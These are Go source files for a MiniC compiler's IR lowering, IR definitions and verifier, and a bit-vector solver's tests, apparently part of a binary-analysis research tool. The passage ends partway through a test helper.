	case *minic.DeclStmt:
		idx := lw.f.AddLocal(st.Name, st.Type.Size())
		lw.scopes[len(lw.scopes)-1][st.Name] = localVar{idx: idx, typ: st.Type}
		if st.Init != nil {
			if !st.Type.IsScalar() {
				return terr(st.Line, "initializer on non-scalar local %q", st.Name)
			}
			v, _, err := lw.expr(st.Init)
			if err != nil {
				return err
			}
			addr := lw.f.NewVReg()
			lw.emit(Instr{Kind: InstAddrLocal, Dst: addr, Local: idx})
			lw.emit(Instr{Kind: InstStore, A: addr, B: v, Size: accessSize(st.Type)})
		}
		return nil

	case *minic.ExprStmt:
		_, _, err := lw.expr(st.X)
		return err

	case *minic.AssignStmt:
		addr, typ, err := lw.lvalue(st.LHS)
		if err != nil {
			return err
		}
		if !typ.IsScalar() {
			return terr(st.Line, "assignment to non-scalar")
		}
		v, _, err := lw.expr(st.RHS)
		if err != nil {
			return err
		}
		lw.emit(Instr{Kind: InstStore, A: addr, B: v, Size: accessSize(typ)})
		return nil

	case *minic.IfStmt:
		cond, _, err := lw.expr(st.Cond)
		if err != nil {
			return err
		}
		condBlk := lw.cur
		thenBlk := lw.startBlock()
		if err := lw.stmt(st.Then); err != nil {
			return err
		}
		thenEnd := lw.cur
		var elseBlk, elseEnd *Block
		if st.Else != nil {
			elseBlk = lw.startBlock()
			if err := lw.stmt(st.Else); err != nil {
				return err
			}
			elseEnd = lw.cur
		}
		join := lw.startBlock()
		condBlk.Term = Term{Kind: TermCondBr, Cond: cond, Target: thenBlk.ID, Else: join.ID}
		if elseBlk != nil {
			condBlk.Term.Else = elseBlk.ID
			if elseEnd.Term.Kind == 0 {
				elseEnd.Term = Term{Kind: TermBr, Target: join.ID}
			}
		}
		if thenEnd.Term.Kind == 0 {
			thenEnd.Term = Term{Kind: TermBr, Target: join.ID}
		}
		return nil

	case *minic.WhileStmt:
		header := lw.f.NewBlock()
		lw.setTerm(Term{Kind: TermBr, Target: header.ID})
		lw.cur = header
		cond, _, err := lw.expr(st.Cond)
		if err != nil {
			return err
		}
		headEnd := lw.cur
		body := lw.startBlock()
		exitID, err := lw.loopBody(st.Body, header.ID)
		if err != nil {
			return err
		}
		headEnd.Term = Term{Kind: TermCondBr, Cond: cond, Target: body.ID, Else: exitID}
		return nil

	case *minic.ForStmt:
		if st.Init != nil {
			lw.pushScope()
			defer lw.popScope()
			if err := lw.stmt(st.Init); err != nil {
				return err
			}
		}
		header := lw.f.NewBlock()
		lw.setTerm(Term{Kind: TermBr, Target: header.ID})
		lw.cur = header
		var cond VReg
		hasCond := st.Cond != nil
		if hasCond {
			c, _, err := lw.expr(st.Cond)
			if err != nil {
				return err
			}
			cond = c
		}
		headEnd := lw.cur

		// Post block (continue target).
		post := lw.f.NewBlock()
		lw.cur = post
		if st.Post != nil {
			if err := lw.stmt(st.Post); err != nil {
				return err
			}
		}
		lw.setTerm(Term{Kind: TermBr, Target: header.ID})

		body := lw.startBlock()
		exitID, err := lw.loopBody(st.Body, post.ID)
		if err != nil {
			return err
		}
		if hasCond {
			headEnd.Term = Term{Kind: TermCondBr, Cond: cond, Target: body.ID, Else: exitID}
		} else {
			headEnd.Term = Term{Kind: TermBr, Target: body.ID}
		}
		return nil

	case *minic.ReturnStmt:
		if st.Val != nil {
			v, _, err := lw.expr(st.Val)
			if err != nil {
				return err
			}
			lw.setTerm(Term{Kind: TermRet, Val: v, HasVal: true})
		} else {
			if lw.f.HasRet {
				return terr(st.Line, "return without value in %q", lw.f.Name)
			}
			lw.setTerm(Term{Kind: TermRet})
		}
		return nil

	case *minic.BreakStmt:
		if len(lw.breaks) == 0 {
			return terr(st.Line, "break outside loop")
		}
		lw.setTerm(Term{Kind: TermBr, Target: lw.breaks[len(lw.breaks)-1]})
		return nil

	case *minic.ContinueStmt:
		if len(lw.conts) == 0 {
			return terr(st.Line, "continue outside loop")
		}
		lw.setTerm(Term{Kind: TermBr, Target: lw.conts[len(lw.conts)-1]})
		return nil
	}
	return terr(0, "unknown statement %T", s)
}

// loopBody lowers a loop body with break/continue context. The continue
// target is contID; a fresh exit block becomes current afterwards. Returns
// the exit block's ID.
func (lw *lowerer) loopBody(body minic.Stmt, contID int) (int, error) {
	exit := lw.f.NewBlock()
	lw.breaks = append(lw.breaks, exit.ID)
	lw.conts = append(lw.conts, contID)
	err := lw.stmt(body)
	lw.breaks = lw.breaks[:len(lw.breaks)-1]
	lw.conts = lw.conts[:len(lw.conts)-1]
	if err != nil {
		return 0, err
	}
	lw.setTerm(Term{Kind: TermBr, Target: contID})
	lw.cur = exit
	return exit.ID, nil
}

// lvalue lowers an expression to (address vreg, object type).
func (lw *lowerer) lvalue(e minic.Expr) (VReg, *minic.Type, error) {
	switch x := e.(type) {
	case *minic.Ident:
		if v, ok := lw.lookup(x.Name); ok {
			d := lw.f.NewVReg()
			lw.emit(Instr{Kind: InstAddrLocal, Dst: d, Local: v.idx})
			return d, v.typ, nil
		}
		if t, ok := lw.globals[x.Name]; ok {
			d := lw.f.NewVReg()
			lw.emit(Instr{Kind: InstAddrGlobal, Dst: d, Name: x.Name})
			return d, t, nil
		}
		return 0, nil, terr(x.Line, "undefined variable %q", x.Name)

	case *minic.UnExpr:
		if x.Op == "*" {
			v, t, err := lw.expr(x.X)
			if err != nil {
				return 0, nil, err
			}
			if t.Kind != minic.TypePtr {
				return 0, nil, terr(x.Line, "dereference of non-pointer %s", t)
			}
			return v, t.Elem, nil
		}

	case *minic.IndexExpr:
		base, t, err := lw.expr(x.X)
		if err != nil {
			return 0, nil, err
		}
		if t.Kind != minic.TypePtr {
			return 0, nil, terr(x.Line, "index of non-pointer %s", t)
		}
		idx, _, err := lw.expr(x.Index)
		if err != nil {
			return 0, nil, err
		}
		scaled := idx
		if es := t.Elem.Size(); es != 1 {
			c := lw.emitConst(int64(es))
			scaled = lw.emitBin(OpMul, idx, c)
		}
		return lw.emitBin(OpAdd, base, scaled), t.Elem, nil
	}
	return 0, nil, terr(0, "expression is not an lvalue")
}

// expr lowers an expression to (value vreg, type). Array-typed expressions
// decay to element pointers.
func (lw *lowerer) expr(e minic.Expr) (VReg, *minic.Type, error) {
	switch x := e.(type) {
	case *minic.IntLit:
		return lw.emitConst(x.Val), minic.IntType, nil

	case *minic.StrLit:
		name := lw.internString(x.Val)
		d := lw.f.NewVReg()
		lw.emit(Instr{Kind: InstAddrGlobal, Dst: d, Name: name})
		return d, minic.PtrTo(minic.CharType), nil

	case *minic.Ident, *minic.IndexExpr:
		addr, t, err := lw.lvalue(e)
		if err != nil {
			return 0, nil, err
		}
		return lw.loadOrDecay(addr, t)

	case *minic.UnExpr:
		switch x.Op {
		case "&":
			addr, t, err := lw.lvalue(x.X)
			if err != nil {
				return 0, nil, err
			}
			if t.Kind == minic.TypeArray {
				return addr, minic.PtrTo(t.Elem), nil
			}
			return addr, minic.PtrTo(t), nil
		case "*":
			addr, t, err := lw.lvalue(x)
			if err != nil {
				return 0, nil, err
			}
			return lw.loadOrDecay(addr, t)
		case "-":
			v, _, err := lw.expr(x.X)
			if err != nil {
				return 0, nil, err
			}
			d := lw.f.NewVReg()
			lw.emit(Instr{Kind: InstNeg, Dst: d, A: v})
			return d, minic.IntType, nil
		case "~":
			v, _, err := lw.expr(x.X)
			if err != nil {
				return 0, nil, err
			}
			d := lw.f.NewVReg()
			lw.emit(Instr{Kind: InstNot, Dst: d, A: v})
			return d, minic.IntType, nil
		case "!":
			v, _, err := lw.expr(x.X)
			if err != nil {
				return 0, nil, err
			}
			zero := lw.emitConst(0)
			return lw.emitBin(OpEQ, v, zero), minic.IntType, nil
		}
		return 0, nil, terr(x.Line, "unknown unary %q", x.Op)

	case *minic.BinExpr:
		return lw.binExpr(x)

	case *minic.CallExpr:
		return lw.call(x)
	}
	return 0, nil, terr(0, "unknown expression %T", e)
}

// loadOrDecay loads a scalar or decays an array to a pointer.
func (lw *lowerer) loadOrDecay(addr VReg, t *minic.Type) (VReg, *minic.Type, error) {
	if t.Kind == minic.TypeArray {
		return addr, minic.PtrTo(t.Elem), nil
	}
	d := lw.f.NewVReg()
	lw.emit(Instr{Kind: InstLoad, Dst: d, A: addr, Size: accessSize(t)})
	return d, t, nil
}

var _binOps = map[string]BinOp{
	"+": OpAdd, "-": OpSub, "*": OpMul, "/": OpDiv, "%": OpMod,
	"&": OpAnd, "|": OpOr, "^": OpXor, "<<": OpShl, ">>": OpShr,
	"<": OpLT, "<=": OpLE, ">": OpGT, ">=": OpGE, "==": OpEQ, "!=": OpNE,
}

func (lw *lowerer) binExpr(x *minic.BinExpr) (VReg, *minic.Type, error) {
	// Short-circuit operators route through a temporary local (virtual
	// registers must not cross blocks).
	if x.Op == "&&" || x.Op == "||" {
		return lw.shortCircuit(x)
	}

	a, ta, err := lw.expr(x.X)
	if err != nil {
		return 0, nil, err
	}
	b, tb, err := lw.expr(x.Y)
	if err != nil {
		return 0, nil, err
	}
	op, ok := _binOps[x.Op]
	if !ok {
		return 0, nil, terr(x.Line, "unknown operator %q", x.Op)
	}

	// Pointer arithmetic scales by element size.
	if ta.Kind == minic.TypePtr && tb.Kind != minic.TypePtr && (op == OpAdd || op == OpSub) {
		if es := ta.Elem.Size(); es != 1 {
			c := lw.emitConst(int64(es))
			b = lw.emitBin(OpMul, b, c)
		}
		return lw.emitBin(op, a, b), ta, nil
	}
	if ta.Kind == minic.TypePtr && tb.Kind == minic.TypePtr && op == OpSub {
		diff := lw.emitBin(OpSub, a, b)
		if es := ta.Elem.Size(); es != 1 {
			c := lw.emitConst(int64(es))
			diff = lw.emitBin(OpDiv, diff, c)
		}
		return diff, minic.IntType, nil
	}
	return lw.emitBin(op, a, b), minic.IntType, nil
}

func (lw *lowerer) shortCircuit(x *minic.BinExpr) (VReg, *minic.Type, error) {
	tmp := lw.f.AddLocal("", 8)
	storeTmp := func(v VReg) {
		addr := lw.f.NewVReg()
		lw.emit(Instr{Kind: InstAddrLocal, Dst: addr, Local: tmp})
		lw.emit(Instr{Kind: InstStore, A: addr, B: v, Size: 8})
	}
	normalize := func(v VReg) VReg {
		zero := lw.emitConst(0)
		return lw.emitBin(OpNE, v, zero)
	}

	a, _, err := lw.expr(x.X)
	if err != nil {
		return 0, nil, err
	}
	storeTmp(normalize(a))
	firstEnd := lw.cur

	second := lw.startBlock()
	b, _, err := lw.expr(x.Y)
	if err != nil {
		return 0, nil, err
	}
	storeTmp(normalize(b))
	secondEnd := lw.cur

	join := lw.startBlock()
	if x.Op == "&&" {
		// Evaluate Y only if X was true.
		firstEnd.Term = Term{Kind: TermCondBr, Cond: a, Target: second.ID, Else: join.ID}
	} else {
		firstEnd.Term = Term{Kind: TermCondBr, Cond: a, Target: join.ID, Else: second.ID}
	}
	if secondEnd.Term.Kind == 0 {
		secondEnd.Term = Term{Kind: TermBr, Target: join.ID}
	}
	addr := lw.f.NewVReg()
	lw.emit(Instr{Kind: InstAddrLocal, Dst: addr, Local: tmp})
	d := lw.f.NewVReg()
	lw.emit(Instr{Kind: InstLoad, Dst: d, A: addr, Size: 8})
	return d, minic.IntType, nil
}

func (lw *lowerer) call(x *minic.CallExpr) (VReg, *minic.Type, error) {
	var args []VReg
	for _, a := range x.Args {
		v, _, err := lw.expr(a)
		if err != nil {
			return 0, nil, err
		}
		args = append(args, v)
	}

	if bi, ok := Builtins[x.Name]; ok {
		if len(args) != bi.Args {
			return 0, nil, terr(x.Line, "%s expects %d arguments, got %d", x.Name, bi.Args, len(args))
		}
		ins := Instr{Kind: InstCall, Name: x.Name, Args: args, HasDst: bi.HasRet}
		if bi.HasRet {
			ins.Dst = lw.f.NewVReg()
		}
		lw.emit(ins)
		return ins.Dst, minic.IntType, nil
	}

	fn, ok := lw.funcs[x.Name]
	if !ok {
		return 0, nil, terr(x.Line, "call to undefined function %q", x.Name)
	}
	if len(args) != len(fn.Params) {
		return 0, nil, terr(x.Line, "%s expects %d arguments, got %d", x.Name, len(fn.Params), len(args))
	}
	hasRet := fn.Ret.Kind != minic.TypeVoid
	ins := Instr{Kind: InstCall, Name: x.Name, Args: args, HasDst: hasRet}
	if hasRet {
		ins.Dst = lw.f.NewVReg()
	}
	lw.emit(ins)
	retType := minic.IntType
	if fn.Ret.Kind == minic.TypePtr {
		retType = fn.Ret
	}
	return ins.Dst, retType, nil
}
