package mir

import (
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/minic"
)

// TestPointerArithmeticLowering checks scaling and pointer-difference
// division end to end at the IR level.
func TestPointerArithmeticLowering(t *testing.T) {
	m := lower(t, `
int arr[8];
int main() {
    int *p = &arr[0];
    int *q = p + 3;
    int d = q - p;          // 3 (scaled back down)
    char *c = "abc";
    char *c2 = c + 2;       // unscaled
    return d + (q - p) + *c2;
}
`)
	if err := Verify(m.Func("main")); err != nil {
		t.Fatal(err)
	}
	// Pointer + int over int* must contain a *8 scaling.
	sawScale := false
	for _, b := range m.Func("main").Blocks {
		for i, ins := range b.Instrs {
			if ins.Kind == InstConst && ins.Val == 8 && i+1 < len(b.Instrs) {
				next := b.Instrs[i+1]
				if next.Kind == InstBin && (next.Op == OpMul || next.Op == OpDiv) {
					sawScale = true
				}
			}
		}
	}
	if !sawScale {
		t.Error("no pointer scaling emitted")
	}
}

func TestShortCircuitLowering(t *testing.T) {
	m := lower(t, `
int side = 0;
int f() { side = side + 1; return 1; }
int main() {
    int a = 0 && f();
    int b = 1 || f();
    return a + b * 10 + side * 100;
}
`)
	main := m.Func("main")
	// Short-circuit forms create extra blocks.
	if len(main.Blocks) < 5 {
		t.Errorf("blocks = %d, want >= 5", len(main.Blocks))
	}
	for _, f := range m.Funcs {
		if err := Verify(f); err != nil {
			t.Errorf("%s: %v", f.Name, err)
		}
	}
}

func TestVoidFunctionLowering(t *testing.T) {
	m := lower(t, `
int g = 0;
void bump() { g = g + 1; return; }
void twice() { bump(); bump(); }
int main() { twice(); return g; }
`)
	bump := m.Func("bump")
	if bump.HasRet {
		t.Error("void function has ret value")
	}
	if err := Verify(bump); err != nil {
		t.Fatal(err)
	}
}

func TestForVariants(t *testing.T) {
	srcs := []string{
		"int main() { int i = 0; for (;;) { i++; if (i > 3) break; } return i; }",
		"int main() { int i; for (i = 0; i < 3;) i++; return i; }",
		"int main() { int s = 0; int i; for (i = 9; i; i--) s++; return s; }",
	}
	for _, src := range srcs {
		prog, err := minic.Parse(src)
		if err != nil {
			t.Fatalf("%q: %v", src, err)
		}
		m, err := Lower(prog)
		if err != nil {
			t.Fatalf("%q: %v", src, err)
		}
		if err := Verify(m.Func("main")); err != nil {
			t.Fatalf("%q: %v", src, err)
		}
	}
}

func TestCharComparisonsAndUnary(t *testing.T) {
	m := lower(t, `
int main() {
    char c = 'z';
    int a = !c;
    int b = -a;
    int d = ~b;
    if (c >= 'a' && c <= 'z') return d;
    return 0;
}
`)
	if err := Verify(m.Func("main")); err != nil {
		t.Fatal(err)
	}
}
