// Package mir defines the MiniC intermediate representation: three-address
// instructions over virtual registers, basic blocks, and per-function frames
// of addressable local slots. It is the level at which the obfuscation
// passes operate (mirroring Obfuscator-LLVM working on LLVM IR) and the
// input to the x86-64 code generator.
//
// Invariant: virtual registers never cross basic-block boundaries; all
// cross-block data flow goes through local slots or memory. This makes
// block-level transformations (flattening, bogus control flow) trivially
// sound and lets the code generator treat registers as block-local
// temporaries.
package mir

import (
	"fmt"
	"strings"
)

// VReg is a virtual register id (block-local temporary).
type VReg int32

// BinOp enumerates binary operators.
type BinOp uint8

// Binary operators. Comparisons yield 0 or 1. Div/Mod/Shr/comparisons are
// signed (MiniC int is a signed 64-bit type).
const (
	OpAdd BinOp = iota + 1
	OpSub
	OpMul
	OpDiv
	OpMod
	OpAnd
	OpOr
	OpXor
	OpShl
	OpShr
	OpLT
	OpLE
	OpGT
	OpGE
	OpEQ
	OpNE
	OpULT // unsigned compare (used by generated code, not surface MiniC)
)

var _binOpNames = map[BinOp]string{
	OpAdd: "add", OpSub: "sub", OpMul: "mul", OpDiv: "div", OpMod: "mod",
	OpAnd: "and", OpOr: "or", OpXor: "xor", OpShl: "shl", OpShr: "shr",
	OpLT: "lt", OpLE: "le", OpGT: "gt", OpGE: "ge", OpEQ: "eq", OpNE: "ne",
	OpULT: "ult",
}

// String names the operator.
func (o BinOp) String() string { return _binOpNames[o] }

// InstrKind enumerates instruction kinds.
type InstrKind uint8

// Instruction kinds.
const (
	InstConst      InstrKind = iota + 1 // Dst = Val
	InstBin                             // Dst = A op B
	InstNeg                             // Dst = -A
	InstNot                             // Dst = ^A (bitwise)
	InstCopy                            // Dst = A
	InstLoad                            // Dst = *(A) (Size bytes, zero-extended)
	InstStore                           // *(A) = B (Size bytes)
	InstAddrLocal                       // Dst = &local[Local]
	InstAddrGlobal                      // Dst = &global(Name)
	InstCall                            // Dst = Name(Args...) (Dst unused when HasDst false)
)

// Instr is one MIR instruction.
type Instr struct {
	Kind   InstrKind
	Dst    VReg
	HasDst bool
	A, B   VReg
	Op     BinOp
	Val    int64
	Name   string
	Args   []VReg
	Size   uint8 // Load/Store access width (1 or 8)
	Local  int
}

// TermKind enumerates block terminators.
type TermKind uint8

// Terminators.
const (
	TermRet       TermKind = iota + 1 // return [Val]
	TermBr                            // goto Target
	TermCondBr                        // if Cond != 0 goto Target else Else
	TermJumpTable                     // goto Targets[Index] (Index in range)
)

// Term is a block terminator.
type Term struct {
	Kind    TermKind
	Val     VReg
	HasVal  bool
	Cond    VReg
	Target  int
	Else    int
	Index   VReg
	Targets []int
}

// Block is a basic block.
type Block struct {
	ID     int
	Instrs []Instr
	Term   Term
}

// LocalSlot is an addressable stack slot.
type LocalSlot struct {
	Name string
	Size int
}

// Func is one function: entry block is Blocks[0].
type Func struct {
	Name     string
	NumParam int
	HasRet   bool
	Locals   []LocalSlot
	NumVRegs int32
	Blocks   []*Block
}

// NewVReg allocates a fresh virtual register.
func (f *Func) NewVReg() VReg {
	f.NumVRegs++
	return VReg(f.NumVRegs - 1)
}

// AddLocal allocates a local slot and returns its index.
func (f *Func) AddLocal(name string, size int) int {
	f.Locals = append(f.Locals, LocalSlot{Name: name, Size: size})
	return len(f.Locals) - 1
}

// NewBlock appends an empty block and returns it.
func (f *Func) NewBlock() *Block {
	b := &Block{ID: len(f.Blocks)}
	f.Blocks = append(f.Blocks, b)
	return b
}

// Block returns the block with the given ID.
func (f *Func) Block(id int) *Block { return f.Blocks[id] }

// GlobalData is one data-section object.
type GlobalData struct {
	Name string
	Size int
	Init []byte // zero-padded to Size
}

// Module is a compilation unit.
type Module struct {
	Funcs   []*Func
	Globals []GlobalData
}

// Func returns the named function, or nil.
func (m *Module) Func(name string) *Func {
	for _, f := range m.Funcs {
		if f.Name == name {
			return f
		}
	}
	return nil
}

// AddGlobal appends a global, returning its name for convenience.
func (m *Module) AddGlobal(g GlobalData) string {
	m.Globals = append(m.Globals, g)
	return g.Name
}

// HasGlobal reports whether a global exists.
func (m *Module) HasGlobal(name string) bool {
	for _, g := range m.Globals {
		if g.Name == name {
			return true
		}
	}
	return false
}

// Verify checks structural invariants: terminator presence, target validity,
// and block-local virtual register discipline (defined before use within the
// same block).
func Verify(f *Func) error {
	if len(f.Blocks) == 0 {
		return fmt.Errorf("mir: %s: no blocks", f.Name)
	}
	for _, b := range f.Blocks {
		if b.Term.Kind == 0 {
			return fmt.Errorf("mir: %s: block %d missing terminator", f.Name, b.ID)
		}
		defined := make(map[VReg]bool)
		use := func(v VReg, what string) error {
			if !defined[v] {
				return fmt.Errorf("mir: %s: block %d: %s uses undefined v%d", f.Name, b.ID, what, v)
			}
			return nil
		}
		for i, ins := range b.Instrs {
			what := fmt.Sprintf("instr %d (%v)", i, ins.Kind)
			switch ins.Kind {
			case InstBin:
				if err := use(ins.A, what); err != nil {
					return err
				}
				if err := use(ins.B, what); err != nil {
					return err
				}
			case InstNeg, InstNot, InstCopy:
				if err := use(ins.A, what); err != nil {
					return err
				}
			case InstLoad:
				if err := use(ins.A, what); err != nil {
					return err
				}
			case InstStore:
				if err := use(ins.A, what); err != nil {
					return err
				}
				if err := use(ins.B, what); err != nil {
					return err
				}
			case InstCall:
				for _, a := range ins.Args {
					if err := use(a, what); err != nil {
						return err
					}
				}
			}
			if ins.Kind != InstStore && (ins.Kind != InstCall || ins.HasDst) {
				defined[ins.Dst] = true
			}
		}
		checkTarget := func(t int) error {
			if t < 0 || t >= len(f.Blocks) {
				return fmt.Errorf("mir: %s: block %d branches to invalid block %d", f.Name, b.ID, t)
			}
			return nil
		}
		switch b.Term.Kind {
		case TermRet:
			if b.Term.HasVal {
				if err := use(b.Term.Val, "ret"); err != nil {
					return err
				}
			}
		case TermBr:
			if err := checkTarget(b.Term.Target); err != nil {
				return err
			}
		case TermCondBr:
			if err := use(b.Term.Cond, "condbr"); err != nil {
				return err
			}
			if err := checkTarget(b.Term.Target); err != nil {
				return err
			}
			if err := checkTarget(b.Term.Else); err != nil {
				return err
			}
		case TermJumpTable:
			if err := use(b.Term.Index, "jumptable"); err != nil {
				return err
			}
			if len(b.Term.Targets) == 0 {
				return fmt.Errorf("mir: %s: empty jump table", f.Name)
			}
			for _, t := range b.Term.Targets {
				if err := checkTarget(t); err != nil {
					return err
				}
			}
		}
	}
	return nil
}

// String renders the function for debugging.
func (f *Func) String() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "func %s (params=%d, locals=%d)\n", f.Name, f.NumParam, len(f.Locals))
	for _, b := range f.Blocks {
		fmt.Fprintf(&sb, "b%d:\n", b.ID)
		for _, ins := range b.Instrs {
			sb.WriteString("  ")
			sb.WriteString(ins.String())
			sb.WriteString("\n")
		}
		fmt.Fprintf(&sb, "  %s\n", b.Term)
	}
	return sb.String()
}

// String renders one instruction.
func (i Instr) String() string {
	switch i.Kind {
	case InstConst:
		return fmt.Sprintf("v%d = %d", i.Dst, i.Val)
	case InstBin:
		return fmt.Sprintf("v%d = %s v%d, v%d", i.Dst, i.Op, i.A, i.B)
	case InstNeg:
		return fmt.Sprintf("v%d = neg v%d", i.Dst, i.A)
	case InstNot:
		return fmt.Sprintf("v%d = not v%d", i.Dst, i.A)
	case InstCopy:
		return fmt.Sprintf("v%d = v%d", i.Dst, i.A)
	case InstLoad:
		return fmt.Sprintf("v%d = load%d [v%d]", i.Dst, i.Size, i.A)
	case InstStore:
		return fmt.Sprintf("store%d [v%d] = v%d", i.Size, i.A, i.B)
	case InstAddrLocal:
		return fmt.Sprintf("v%d = &local%d", i.Dst, i.Local)
	case InstAddrGlobal:
		return fmt.Sprintf("v%d = &%s", i.Dst, i.Name)
	case InstCall:
		if i.HasDst {
			return fmt.Sprintf("v%d = call %s(%v)", i.Dst, i.Name, i.Args)
		}
		return fmt.Sprintf("call %s(%v)", i.Name, i.Args)
	}
	return "?"
}

// String renders a terminator.
func (t Term) String() string {
	switch t.Kind {
	case TermRet:
		if t.HasVal {
			return fmt.Sprintf("ret v%d", t.Val)
		}
		return "ret"
	case TermBr:
		return fmt.Sprintf("br b%d", t.Target)
	case TermCondBr:
		return fmt.Sprintf("condbr v%d, b%d, b%d", t.Cond, t.Target, t.Else)
	case TermJumpTable:
		return fmt.Sprintf("jumptable v%d, %v", t.Index, t.Targets)
	}
	return "?"
}
