package solver

import (
	"math/rand"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/expr"
)

func TestBasicSat(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 64)
	f := b.Eq(b.Add(x, b.Const(1, 64)), b.Const(2, 64))
	s := Default()
	r, env := s.Check(f)
	if r != Sat {
		t.Fatalf("result = %v", r)
	}
	if env["x"] != 1 {
		t.Errorf("model x = %#x, want 1", env["x"])
	}
	// Model must actually satisfy the formula.
	ok, err := expr.EvalBool(f, env)
	if err != nil || !ok {
		t.Errorf("model does not satisfy formula: %v %v", ok, err)
	}
}

func TestBasicUnsat(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 64)
	s := Default()
	// x + 1 == x is unsatisfiable.
	f := b.Eq(b.Add(x, b.Const(1, 64)), x)
	if r, _ := s.Check(f); r != Unsat {
		t.Errorf("x+1==x: %v, want unsat", r)
	}
	// x < x is unsatisfiable (already folded by the builder).
	if r, _ := s.Check(b.Ult(x, x)); r != Unsat {
		t.Error("x<x not unsat")
	}
	// Conjunction x==3 && x==4.
	r, _ := s.Check(b.Eq(x, b.Const(3, 64)), b.Eq(x, b.Const(4, 64)))
	if r != Unsat {
		t.Errorf("x==3 && x==4: %v", r)
	}
}

func TestMultiVariableModel(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 8)
	y := b.Var("y", 8)
	f := b.BAnd(
		b.Eq(b.Add(x, y), b.Const(10, 8)),
		b.Eq(b.Mul(x, y), b.Const(21, 8)),
	)
	s := Default()
	r, env := s.Check(f)
	if r != Sat {
		t.Fatalf("result = %v", r)
	}
	gotX, gotY := env["x"], env["y"]
	if (gotX+gotY)&0xFF != 10 || (gotX*gotY)&0xFF != 21 {
		t.Errorf("model x=%d y=%d does not solve system", gotX, gotY)
	}
}

func TestObfuscationIdentitiesValid(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 64)
	y := b.Var("y", 64)
	s := Default()
	identities := []struct {
		name string
		lhs  *expr.Node
		rhs  *expr.Node
	}{
		{
			"xor = (~a&b)|(a&~b)", // the paper's Sec. II example
			b.Xor(x, y),
			b.Or(b.And(b.Not(x), y), b.And(x, b.Not(y))),
		},
		{
			"add = (a^b) + 2(a&b)",
			b.Add(x, y),
			b.Add(b.Xor(x, y), b.Shl(b.And(x, y), b.Const(1, 64))),
		},
		{
			"sub = a + ~b + 1",
			b.Sub(x, y),
			b.Add(b.Add(x, b.Not(y)), b.Const(1, 64)),
		},
		{
			"neg = ~a + 1",
			b.Neg(x),
			b.Add(b.Not(x), b.Const(1, 64)),
		},
	}
	for _, id := range identities {
		t.Run(id.name, func(t *testing.T) {
			if !s.EquivalentBV(b, id.lhs, id.rhs) {
				t.Errorf("identity does not hold: %s vs %s", id.lhs, id.rhs)
			}
		})
	}
}

func TestNotEquivalent(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 64)
	y := b.Var("y", 64)
	s := Default()
	if s.EquivalentBV(b, b.Add(x, y), b.Sub(x, y)) {
		t.Error("add equivalent to sub?")
	}
	if s.EquivalentBV(b, x, y) {
		t.Error("distinct variables equivalent?")
	}
}

func TestImplies(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 64)
	s := Default()
	p := b.Eq(x, b.Const(5, 64))
	q := b.Ult(x, b.Const(10, 64))
	if !s.Implies(b, p, q) {
		t.Error("x==5 should imply x<10")
	}
	if s.Implies(b, q, p) {
		t.Error("x<10 should not imply x==5")
	}
	// Implication with the paper's subsumption shape: a looser pre-condition
	// is implied by a tighter one.
	pre1 := b.True()                      // no pre-condition
	pre2 := b.Eq(x, b.Var("rdx_pre", 64)) // rbx == rdx
	if !s.Implies(b, pre2, pre1) {
		t.Error("any pre-condition implies true")
	}
	if s.Implies(b, pre1, pre2) {
		t.Error("true should not imply rbx==rdx")
	}
}

func TestMultiplication(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 16)
	s := Default()
	// Factor 143 = 11 * 13 over 16-bit: x * 11 == 143.
	f := b.Eq(b.Mul(x, b.Const(11, 16)), b.Const(143, 16))
	r, env := s.Check(f)
	if r != Sat {
		t.Fatalf("result = %v", r)
	}
	if (env["x"]*11)&0xFFFF != 143 {
		t.Errorf("model x=%d", env["x"])
	}
	// x*2 == x+x is valid.
	if !s.EquivalentBV(b, b.Mul(x, b.Const(2, 16)), b.Add(x, x)) {
		t.Error("x*2 != x+x")
	}
}

func TestSignedComparison(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 8)
	s := Default()
	// Find a value that is negative signed but large unsigned.
	f := b.BAnd(
		b.Slt(x, b.Const(0, 8)),
		b.BNot(b.Ult(x, b.Const(0x80, 8))),
	)
	r, env := s.Check(f)
	if r != Sat {
		t.Fatalf("result = %v", r)
	}
	if env["x"] < 0x80 {
		t.Errorf("model x=%#x should have sign bit set", env["x"])
	}
}

// Brute-force cross-check: random formulas over two 8-bit variables, solver
// verdict versus exhaustive enumeration. This is the solver's ground-truth
// test.
func TestRandomFormulasVsBruteForce(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	for iter := 0; iter < 60; iter++ {
		b := expr.NewBuilder()
		x := b.Var("x", 8)
		y := b.Var("y", 8)
		f := randomBool(rng, b, []*expr.Node{x, y}, 3)

		want := false
		var witness expr.Env
		for xv := 0; xv < 256 && !want; xv++ {
			for yv := 0; yv < 256; yv++ {
				env := expr.Env{"x": uint64(xv), "y": uint64(yv)}
				ok, err := expr.EvalBool(f, env)
				if err != nil {
					t.Fatalf("eval: %v", err)
				}
				if ok {
					want = true
					witness = env
					break
				}
			}
		}
		_ = witness

		s := Default()
		r, env := s.Check(f)
		if want && r != Sat {
			t.Fatalf("iter %d: formula %s is satisfiable but solver said %v", iter, f, r)
		}
		if !want && r != Unsat {
			t.Fatalf("iter %d: formula %s is unsatisfiable but solver said %v", iter, f, r)
		}
		if r == Sat {
			ok, err := expr.EvalBool(f, fillEnv(env))
			if err != nil || !ok {
				t.Fatalf("iter %d: solver model %v does not satisfy %s", iter, env, f)
			}
		}
	}
}

// fillEnv defaults missing variables to zero (solver may omit variables that
// were simplified away).
func fillEnv(env expr.Env) expr.Env {
	out := expr.Env{"x": 0, "y": 0}
	for k, v := range env {
		out[k] = v
	}
	return out
}

func randomBV(rng *rand.Rand, b *expr.Builder, vars []*expr.Node, depth int) *expr.Node {
	if depth == 0 || rng.Intn(3) == 0 {
		if rng.Intn(2) == 0 {
			return vars[rng.Intn(len(vars))]
		}
		return b.Const(uint64(rng.Intn(256)), 8)
	}
